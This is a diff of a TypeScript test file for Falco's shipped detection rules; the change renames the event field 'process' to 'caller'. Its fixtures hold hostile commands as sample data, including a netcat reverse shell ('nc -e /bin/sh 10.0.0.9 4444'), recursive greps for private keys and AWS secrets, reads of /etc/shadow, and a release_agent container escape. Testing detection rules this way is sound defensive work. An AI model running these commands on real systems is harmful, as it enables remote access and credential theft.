@@ -36,12 +36,12 @@ describe("the rules that ship with Falco", () => {
   const shell = { name: "sh", args: ["-c", "id"], parent };
   const contained = { container: CONTAINER };
   test.each<[string, SyscallEvent]>([
-    ["Run shell untrusted", sampleEvent("execve", { process: sampleProcess(shell) })],
+    ["Run shell untrusted", sampleEvent("execve", { caller: sampleProcess(shell) })],
     [
       "Read sensitive file untrusted",
       sampleEvent("openat", {
         fd: sampleFile("/etc/shadow"),
-        process: sampleProcess({ name: "cat" }),
+        caller: sampleProcess({ name: "cat" }),
         args: { name: "/etc/shadow", flags: 0 },
         result: 3,
       }),
@@ -50,106 +50,106 @@ describe("the rules that ship with Falco", () => {
       "Directory traversal monitored file read",
       sampleEvent("openat", {
         fd: sampleFile("/etc/passwd", { rawName: "../../../etc/passwd" }),
-        process: sampleProcess({ name: "php", parent }),
+        caller: sampleProcess({ name: "php", parent }),
         args: { flags: 0 },
       }),
     ],
     [
       "Terminal shell in container",
-      sampleEvent("execve", { process: sampleProcess({ ...contained, tty: 34816, parent: sampleProcess({ name: "runc" }) }) }),
+      sampleEvent("execve", { caller: sampleProcess({ ...contained, tty: 34816, parent: sampleProcess({ name: "runc" }) }) }),
     ],
-    ["PTRACE attached to process", sampleEvent("ptrace", { args: { request: 16, pid: 1 }, process: sampleProcess({ name: "gdb" }) })],
-    ["PTRACE anti-debug attempt", sampleEvent("ptrace", { args: { request: 0 }, process: sampleProcess({ name: "evil" }) })],
+    ["PTRACE attached to process", sampleEvent("ptrace", { args: { request: 16, pid: 1 }, caller: sampleProcess({ name: "gdb" }) })],
+    ["PTRACE anti-debug attempt", sampleEvent("ptrace", { args: { request: 0 }, caller: sampleProcess({ name: "evil" }) })],
     [
       "Fileless execution via memfd_create",
       sampleEvent("execve", {
-        process: sampleProcess({ name: "3", executable: { ...sampleProcess().executable, isFromMemfd: true } }),
+        caller: sampleProcess({ name: "3", executable: { ...sampleProcess().executable, isFromMemfd: true } }),
       }),
     ],
-    ["Execution from /dev/shm", sampleEvent("execve", { process: sampleProcess({ name: "x", exe: "/dev/shm/x" }) })],
+    ["Execution from /dev/shm", sampleEvent("execve", { caller: sampleProcess({ name: "x", exe: "/dev/shm/x" }) })],
     [
       "Drop and execute new binary in container",
       sampleEvent("execve", {
-        process: sampleProcess({ ...contained, executable: { ...sampleProcess().executable, isUpperLayer: true } }),
+        caller: sampleProcess({ ...contained, executable: { ...sampleProcess().executable, isUpperLayer: true } }),
       }),
     ],
     [
       "Linux Kernel Module Injection Detected",
-      sampleEvent("finit_module", { process: sampleProcess({ ...contained, name: "insmod", capEffective: 1n << 16n }) }),
+      sampleEvent("finit_module", { caller: sampleProcess({ ...contained, name: "insmod", capEffective: 1n << 16n }) }),
     ],
     [
       "Packet socket created in container",
-      sampleEvent("socket", { args: { domain: 17, type: 3 }, process: sampleProcess({ ...contained, name: "tcpdump" }) }),
+      sampleEvent("socket", { args: { domain: 17, type: 3 }, caller: sampleProcess({ ...contained, name: "tcpdump" }) }),
     ],
     [
       "Redirect STDOUT/STDIN to Network Connection in Container",
-      sampleEvent("dup2", { result: 1, fd: sampleSocket(), process: sampleProcess({ ...contained, name: "python3" }) }),
+      sampleEvent("dup2", { result: 1, fd: sampleSocket(), caller: sampleProcess({ ...contained, name: "python3" }) }),
     ],
     [
       "Disallowed SSH Connection Non Standard Port",
       sampleEvent("connect", {
         fd: sampleSocket({ remotePort: 443 }),
-        process: sampleProcess({ name: "ssh", exe: "/usr/bin/ssh" }),
+        caller: sampleProcess({ name: "ssh", exe: "/usr/bin/ssh" }),
       }),
     ],
     ["Create Symlink Over Sensitive Files", sampleEvent("symlink", { args: { target: "/etc/shadow", linkpath: "/tmp/x" } })],
     ["Create Hardlink Over Sensitive Files", sampleEvent("linkat", { args: { oldpath: "/etc/shadow", newpath: "/tmp/x" } })],
     [
       "Search Private Keys or Passwords",
-      sampleEvent("execve", { process: sampleProcess({ name: "grep", args: ["-r", "BEGIN RSA PRIVATE", "/"] }) }),
+      sampleEvent("execve", { caller: sampleProcess({ name: "grep", args: ["-r", "BEGIN RSA PRIVATE", "/"] }) }),
     ],
-    ["Find AWS Credentials", sampleEvent("execve", { process: sampleProcess({ name: "grep", args: ["aws_secret_access_key"] }) })],
-    ["Remove Bulk Data from Disk", sampleEvent("execve", { process: sampleProcess({ name: "shred" }) })],
+    ["Find AWS Credentials", sampleEvent("execve", { caller: sampleProcess({ name: "grep", args: ["aws_secret_access_key"] }) })],
+    ["Remove Bulk Data from Disk", sampleEvent("execve", { caller: sampleProcess({ name: "shred" }) })],
     [
       "Netcat Remote Code Execution in Container",
-      sampleEvent("execve", { process: sampleProcess({ ...contained, name: "nc", args: ["-e", "/bin/sh", "10.0.0.9", "4444"] }) }),
+      sampleEvent("execve", { caller: sampleProcess({ ...contained, name: "nc", args: ["-e", "/bin/sh", "10.0.0.9", "4444"] }) }),
     ],
     [
       "Debugfs Launched in Privileged Container",
-      sampleEvent("execve", { process: sampleProcess({ name: "debugfs", container: { ...CONTAINER, isPrivileged: true } }) }),
+      sampleEvent("execve", { caller: sampleProcess({ name: "debugfs", container: { ...CONTAINER, isPrivileged: true } }) }),
     ],
     [
       "Detect release_agent File Container Escapes",
       sampleEvent("openat", {
         fd: sampleFile("/sys/fs/cgroup/rdma/release_agent"),
         args: { flags: 1 },
-        process: sampleProcess({ ...contained, capEffective: 1n << 21n }),
+        caller: sampleProcess({ ...contained, capEffective: 1n << 21n }),
       }),
     ],
     [
       "Clear Log Activities",
-      sampleEvent("openat", { fd: sampleFile("/var/log/auth.log"), args: { flags: 0o1001 }, process: sampleProcess({ name: "rm" }) }),
+      sampleEvent("openat", { fd: sampleFile("/var/log/auth.log"), args: { flags: 0o1001 }, caller: sampleProcess({ name: "rm" }) }),
     ],
     [
       "Contact K8S API Server From Container",
       sampleEvent("connect", {
         fd: sampleSocket({ remoteName: "kubernetes.default.svc.cluster.local" }),
-        process: sampleProcess({ ...contained, name: "curl" }),
+        caller: sampleProcess({ ...contained, name: "curl" }),
       }),
     ],
     [
       "System user interactive",
       sampleEvent("execve", {
-        process: sampleProcess({ name: "id", userName: "www-data", parent: sampleProcess({ name: "sshd" }) }),
+        caller: sampleProcess({ name: "id", userName: "www-data", parent: sampleProcess({ name: "sshd" }) }),
       }),
     ],
     [
       "Read sensitive file trusted after startup",
-      sampleEvent("openat", { fd: sampleFile("/etc/shadow"), args: { flags: 0 }, process: sampleProcess({ name: "nginx" }) }),
+      sampleEvent("openat", { fd: sampleFile("/etc/shadow"), args: { flags: 0 }, caller: sampleProcess({ name: "nginx" }) }),
     ],
   ])("stable: %s", (name, event) => {
     expect(names(shipped("falco_rules.yaml"), event)).toContain(name);
     // Nothing fires on the same event without what made it one.
-    expect(names(shipped("falco_rules.yaml"), sampleEvent(event.type, { process: sampleProcess({ name: "true" }) }))).toEqual([]);
+    expect(names(shipped("falco_rules.yaml"), sampleEvent(event.type, { caller: sampleProcess({ name: "true" }) }))).toEqual([]);
   });
 
   test("ordinary work makes none of the stable ones fire", () => {
     const rules = shipped("falco_rules.yaml");
     const events = [
-      sampleEvent("execve", { process: sampleProcess({ name: "make", args: ["all"] }) }),
+      sampleEvent("execve", { caller: sampleProcess({ name: "make", args: ["all"] }) }),
       sampleEvent("openat", { fd: sampleFile("/usr/lib/libc.so.6"), args: { flags: 0o2000000 } }),
-      sampleEvent("connect", { fd: sampleSocket(), process: sampleProcess({ name: "curl" }) }),
-      sampleEvent("dup2", { result: 1, fd: sampleFile("/tmp/out"), process: sampleProcess({ container: CONTAINER }) }),
+      sampleEvent("connect", { fd: sampleSocket(), caller: sampleProcess({ name: "curl" }) }),
+      sampleEvent("dup2", { result: 1, fd: sampleFile("/tmp/out"), caller: sampleProcess({ container: CONTAINER }) }),
       sampleEvent("nosuchcall"),
     ];
     expect(events.flatMap((event) => names(rules, event))).toEqual([]);
@@ -163,7 +163,7 @@ const EVENT = sampleEvent("openat", {
   result: -13,
   fd: sampleFile("/home/jo/.ssh/id_rsa", { number: -1, rawName: "../.ssh/id_rsa" }),
   args: { name: "../.ssh/id_rsa", flags: 0o100 | 2, mode: 0o755 },
-  process: sampleProcess({
+  caller: sampleProcess({
     name: "Cat",
     args: ["-n", "it's"],
     capEffective: (1n << 21n) | 1n,
@@ -323,7 +323,7 @@ describe("rule files", () => {
 
   test("lists and macros are replaced, appended to and overridden by later files", () => {
     const first = `- list: names\n  items: [a]\n- macro: named\n  condition: (proc.name in (names))\n${rule("named and evt.type=execve")}`;
-    const named = (name: string): SyscallEvent => sampleEvent("execve", { process: sampleProcess({ name }) });
+    const named = (name: string): SyscallEvent => sampleEvent("execve", { caller: sampleProcess({ name }) });
     const fires = (second: string, name: string): boolean => compile(first, second).judge(named(name)).length > 0;
     expect([fires("", "a"), fires("", "b")]).toEqual([true, false]);
     expect(fires("- list: names\n  items: [b]\n  append: true", "b")).toBe(true);
